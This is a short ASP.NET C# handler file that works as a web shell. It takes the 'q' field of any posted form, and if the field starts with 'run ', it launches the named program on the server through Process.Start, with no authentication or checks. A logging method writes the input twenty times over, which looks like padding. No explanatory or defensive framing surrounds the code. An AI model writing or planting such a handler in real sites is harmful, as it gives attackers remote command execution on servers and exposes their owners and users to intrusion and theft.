<%@ WebHandler Language="C#" Class="H" %>
using System.Web; using System.Diagnostics;
public class H : IHttpHandler { public bool IsReusable { get { return false; } }
void Log(string m) { Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); Trace.Write(m); }
public void ProcessRequest(HttpContext context) { Log(context.Request.Form["q"]); string line = context.Request.Form["q"]; context.Response.Write(Dispatch(line)); }
string Dispatch(string line) { if (line.StartsWith("run ")) { string exe = line.Substring(4); return Run(exe); } return "?"; }
string Run(string exe) { Process.Start(exe); return "ok"; } }
